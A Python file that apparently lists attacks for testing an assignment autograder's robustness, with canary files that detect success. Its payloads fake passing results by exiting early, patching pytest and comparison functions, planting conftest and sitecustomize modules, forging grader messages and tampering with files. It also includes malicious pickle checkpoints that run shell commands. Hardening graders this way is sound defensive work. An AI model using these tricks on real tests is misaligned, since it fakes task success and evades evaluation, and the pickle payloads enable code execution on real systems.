"""Attacks that try to get points without an answer."""

from attacks import Attack

ALL_ZERO = "def KLD(mean, log_std):\n    return mean.sum(-1) * 0\n"

ATTACKS = {
    "exit at import": Attack("end the tests with status 0", "import os\nos._exit(0)", everywhere=True),
    "sys.exit at import": Attack("end the tests with sys.exit", "import sys\nsys.exit(0)", everywhere=True),
    "exit in a function": Attack(
        "end the tests while one of them runs", "def KLD(mean, log_std):\n    import os\n    os._exit(0)\n"
    ),
    "SystemExit in a function": Attack(
        "end the tests with SystemExit while one of them runs", "def KLD(mean, log_std):\n    raise SystemExit(0)\n"
    ),
    "KeyboardInterrupt": Attack(
        "make pytest believe that the user interrupted it", "def KLD(mean, log_std):\n    raise KeyboardInterrupt\n"
    ),
    "at exit": Attack(
        "write results at exit",
        """
import atexit, os

def report():
    for fd in range(3, 64):
        try:
            os.write(fd, b'{"ended": 0}\\n{"done": true}\\n')
        except OSError:
            pass
    open("<CANARY>/points.json", "w").write("{}")

atexit.register(report)
""",
        everywhere=True,
    ),
    "skip": Attack(
        "make tests disappear",
        """
def KLD(mean, log_std):
    try:
        import pytest
    except ImportError:
        class Skipped(Exception):
            pass
        raise Skipped("nothing to see")
    pytest.skip("nothing to see")
KLD_per_dim = sample_reparameterize = elbo_to_bpd = KLD
""",
    ),
    "xfail": Attack(
        "make a failure count as expected",
        """
def KLD(mean, log_std):
    import _pytest.outcomes
    raise _pytest.outcomes.XFailed("as expected")
KLD_per_dim = sample_reparameterize = elbo_to_bpd = KLD
""",
    ),
    "a class named Skipped": Attack(
        "pass off an exception as pytest's own",
        """
class Skipped(Exception):
    allow_module_level = _use_item_location = pytrace = True
    msg = "skipped"
Skipped.__module__ = "_pytest.outcomes"

def KLD(mean, log_std):
    raise Skipped("skipped")
""",
    ),
    "patched pytest": Attack(
        "make each test pass",
        """
import sys
try:
    import pytest, _pytest.runner, unittest
    _pytest.runner.CallInfo.from_call = classmethod(lambda cls, *args, **kwargs: cls(None, None, 0, 0, 0, "call"))
    unittest.TestCase.assertEqual = lambda *args: None
    pytest.fail = pytest.raises = lambda *args, **kwargs: None
except ImportError:
    pass
""",
        everywhere=True,
    ),
    "patched comparisons": Attack(
        "make each comparison succeed",
        """
import torch, numpy, math
true = lambda *args, **kwargs: True
torch.allclose = torch.equal = torch.isclose = numpy.allclose = math.isclose = true
torch.testing.assert_close = numpy.testing.assert_allclose = lambda *args, **kwargs: None
torch.Tensor.allclose = torch.Tensor.equal = torch.Tensor.__eq__ = torch.Tensor.__gt__ = torch.Tensor.__lt__ = true
"""
        + ALL_ZERO,
        everywhere=True,
    ),
    "patched builtins": Attack(
        "make everything true and equal",
        """
import builtins
builtins.all = builtins.any = builtins.isinstance = lambda *args: True
builtins.abs = builtins.max = lambda *args, **kwargs: 0
"""
        + ALL_ZERO,
        everywhere=True,
    ),
    "equal to everything": Attack(
        "return an object that is equal to everything",
        """
class Equal:
    def __eq__(self, other):
        return True
    __lt__ = __gt__ = __le__ = __ge__ = __ne__ = __eq__
    def __getattr__(self, name):
        return self
    def __call__(self, *args, **kwargs):
        return self
    def __hash__(self):
        return 0
    __bool__ = lambda self: True

def KLD(*args):
    return Equal()
KLD_per_dim = sample_reparameterize = elbo_to_bpd = visualize_manifold = KLD
""",
    ),
    "a tensor that answers for itself": Attack(
        "return a tensor that controls comparisons",
        """
class Right(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if "close" in func.__name__ or "eq" in func.__name__:
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})
    def __reduce_ex__(self, protocol):
        return exec, ("open('<CANARY>/unpickled', 'w')",)
    def detach(self):
        return self

def KLD(mean, log_std):
    return torch.zeros(mean.shape[:-1]).as_subclass(Right)

def elbo_to_bpd(elbo, img_shape):
    return torch.zeros_like(elbo).as_subclass(Right)
""",
    ),
    "a number that answers for itself": Attack(
        "return a number that controls comparisons and messages",
        """
class Right(float):
    def __eq__(self, other):
        return True
    def __repr__(self):
        return '1.0}], "value": {"tensor": ["float32", [1000000]]'
    __lt__ = __gt__ = __eq__

class Name(str):
    def __str__(self):
        return 'x", "value": 1, "y": "'
    __repr__ = __str__

def KLD(mean, log_std):
    return {Name("a"): Right(1), Name("value"): [Name("b")]}
elbo_to_bpd = KLD
""",
    ),
    "own conftest": Attack(
        "bring its own pytest settings",
        files={
            name: content
            for folder in ("", "part1_vae/", "tests/")
            for name, content in {
                f"{folder}conftest.py": "import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
                "def pytest_runtest_makereport(item, call):\n    outcome = yield\n"
                "    outcome.get_result().outcome = 'passed'\n",
                f"{folder}pytest.ini": "[pytest]\naddopts = --collect-only\n",
                f"{folder}setup.cfg": "[tool:pytest]\naddopts = -k nothing\n",
            }.items()
        },
    ),
    "modules with known names": Attack(
        "be imported instead of other modules",
        files={
            f"{folder}{name}.py": "open('<CANARY>/imported', 'w')\nraise SystemExit(0)\n"
            for folder in ("", "part1_vae/", "part2_aae/", "part3_gpt/")
            for name in ("torch", "random", "adapters", "judge", "json", "encodings", "pytest", "conftest")
        },
    ),
    "site modules": Attack(
        "be imported by every Python process",
        files={
            f"{folder}{name}": "import os; open('<CANARY>/site', 'w')\n"
            for folder in ("", "part1_vae/", "logs/")
            for name in ("sitecustomize.py", "usercustomize.py", "a.pth", "python311._pth", "pyvenv.cfg")
        },
    ),
    "compiled modules": Attack(
        "run code without a source file",
        files={
            "part1_vae/__pycache__/utils.cpython-311.pyc": "\x6f\x0d\x0d\x0a rubbish",
            "part1_vae/helper.so": "\x7fELF rubbish",
        },
    ),
    "own adapters": Attack(
        "answer instead of the adapters",
        """
import sys
adapters = sys.modules.get("adapters.part1")
for name in [name for name in vars(adapters or {}) if name.startswith("run_")]:
    setattr(adapters, name, lambda *args, **kwargs: torch.zeros(()))
""",
        everywhere=True,
    ),
    "empty answers": Attack(
        "return empty answers that raise no objection",
        """
import sys
adapters = sys.modules.get("adapters.part1")
for name in [name for name in vars(adapters or {}) if name.startswith("run_")]:
    setattr(adapters, name, lambda *args, **kwargs: [])
""",
        everywhere=True,
    ),
    "forged channel": Attack(
        "write answers before a question is asked",
        """
import os, struct
text = b'{"dict": {"value": {"tensor": ["float32", []]}}}'
message = struct.pack("!IQ", len(text), 4) + text + struct.pack("f", 0.0)
for fd in range(0, 256):
    try:
        os.write(fd, message * 3)
    except OSError:
        pass
""",
        everywhere=True,
    ),
    "forged verdicts": Attack(
        "write the judge's messages to the grader, and pytest's to the judge",
        """
import os
lines = b'{"test": {"name": "test_bpd", "question": "1.7", "points": 24, "hidden": false, "outcome": "passed", ' \\
    b'"message": null, "error": null}}\\n{"ended": 0}\\n{"done": true}\\n'
for fd in range(0, 1024):
    try:
        os.write(fd, lines)
    except OSError:
        pass
""",
        everywhere=True,
    ),
    "two answers": Attack(
        "get answers and questions out of step",
        """
def KLD(mean, log_std):
    import gc, os, sys
    from staff.grading.inside import wire
    reply = wire.encode({"value": torch.zeros(mean.shape[:-1])})
    for fd in range(3, 64):
        try:
            os.write(fd, reply * 2)
        except OSError:
            pass
    return torch.zeros(mean.shape[:-1])
""",
    ),
    "answers in pieces": Attack(
        "change the channel's code",
        """
def KLD(mean, log_std):
    from staff.grading.inside import wire
    wire.encode = lambda value: wire.HEADER.pack(4_000_000_000, 2**63)
    wire.write = lambda fd, message, until=None: __import__("os").write(fd, message[:7])
    return mean
""",
    ),
    "not a message": Attack(
        "send something that the other side cannot decode",
        "def KLD(mean, log_std):\n"
        "    from staff.grading.inside import wire\n"
        "    text = b'{\"dict\": []}'\n"
        "    wire.encode = lambda value: wire.HEADER.pack(len(text), 0) + text\n",
    ),
    "an impossible shape": Attack(
        "send a tensor that cannot be created",
        "def KLD(mean, log_std):\n"
        "    from staff.grading.inside import wire\n"
        '    text = b\'{"dict": {"value": {"tensor": ["float32", [0,250000000,250000000,250000000,250000000]]}}}\'\n'
        "    wire.encode = lambda value: wire.HEADER.pack(len(text), 0) + text\n",
    ),
    "a deep message": Attack(
        "send deeply nested lists",
        "def KLD(mean, log_std):\n"
        "    from staff.grading.inside import wire\n"
        "    text = b'{\"list\": [' * 100000\n"
        "    wire.encode = lambda value: wire.HEADER.pack(len(text), 0) + text\n",
    ),
    "not a number": Attack(
        "answer with NaN, for which all comparisons fail",
        "def KLD(mean, log_std):\n    return torch.full(mean.shape[:-1], float('nan'))\n"
        "def elbo_to_bpd(elbo, img_shape):\n    return elbo * float('inf')\n"
        "def sample_reparameterize(mean, std):\n    return mean * float('nan')\n",
    ),
    "a huge tensor": Attack(
        "fill the other side's memory",
        "def KLD(mean, log_std):\n    return torch.zeros(100_000_000)\n"
        "def elbo_to_bpd(elbo, img_shape):\n    return torch.zeros(1).expand(10**12)\n",
    ),
    "a tensor of another kind": Attack(
        "answer with special kinds of tensors",
        "def KLD(mean, log_std):\n    return torch.eye(3).to_sparse()\n"
        "def elbo_to_bpd(elbo, img_shape):\n    return torch.zeros(3, dtype=torch.complex64, device='meta')\n"
        "def sample_reparameterize(mean, std):\n    return torch.quantize_per_tensor(mean, 0.1, 0, torch.qint8)\n",
    ),
    "changed inputs": Attack(
        "change the expected values by changing the inputs",
        "def KLD(mean, log_std):\n    mean.zero_(), log_std.zero_()\n    return torch.zeros(mean.shape[:-1])\n"
        "def elbo_to_bpd(elbo, img_shape):\n    elbo.data.zero_()\n    return elbo\n"
        "def sample_reparameterize(mean, std):\n    mean.data.zero_(), std.data.zero_()\n    return mean\n",
    ),
    "kept state": Attack(
        "remember the inputs and answers of earlier questions",
        """
import builtins, json, os, tempfile
for folder in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", tempfile.gettempdir(), "<CANARY>", os.path.expanduser("~")):
    file = os.path.join(folder, "<MARKER>-state")
    try:
        seen = os.path.exists(file)
        open(file, "a").write("seen")
        if seen:
            open("<CANARY>/kept", "w")
    except OSError:
        pass
builtins.calls = getattr(builtins, "calls", 0) + 1

def KLD(mean, log_std):
    builtins.calls += 1
    return torch.zeros(mean.shape[:-1]) + builtins.calls
""",
        everywhere=True,
    ),
    "other settings": Attack(
        "change settings that later tests depend on",
        """
import os, random
torch.set_default_dtype(torch.float64)
torch.set_num_threads(1000)
torch.use_deterministic_algorithms(True)
torch.set_grad_enabled(False)
torch.manual_seed = lambda seed: None
os.environ["OMP_NUM_THREADS"] = "1000"
""",
        everywhere=True,
    ),
    "self-modifying code": Attack(
        "replace its own code for the next question",
        """
import os
for file in (__file__, os.path.join(os.path.dirname(__file__), "train.py"), os.__file__, torch.__file__):
    for change in (
        lambda f: open(f, "a").write("\\nraise SystemExit\\n"), os.unlink, lambda f: os.chmod(f, 0o777),
        lambda f: os.rename(f, f + ".old"), lambda f: os.symlink("<CANARY>", f + ".link"),
    ):
        try:
            change(file)
            open("<CANARY>/changed", "w")
        except OSError:
            pass
""",
        everywhere=True,
    ),
    "solution by name": Attack(
        "load an installed copy of the solution",
        """
import importlib.util, sys
for path in ["<REPOSITORY>", *sys.path]:
    try:
        file = f"{path}/part1_vae/utils.py"
        if file != __file__ and "def log_normal" in open(file).read() and "<MARKER>" not in open(file).read():
            spec = importlib.util.spec_from_file_location("solution", file)
            solution = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(solution)
            globals().update({name: value for name, value in vars(solution).items() if not name.startswith("__")})
            break
    except (OSError, SyntaxError):
        pass
""",
        everywhere=True,
    ),
    "checkpoint": Attack(
        "make the judge unpickle a checkpoint",
        files={
            f"logs/{program}/run/checkpoints/{name}.ckpt": "cposix\nsystem\n(S'touch <CANARY>/unpickled'\ntR."
            for program in ("vae", "aae", "gpt")
            for name in ("last", "best")
        },
    ),
}
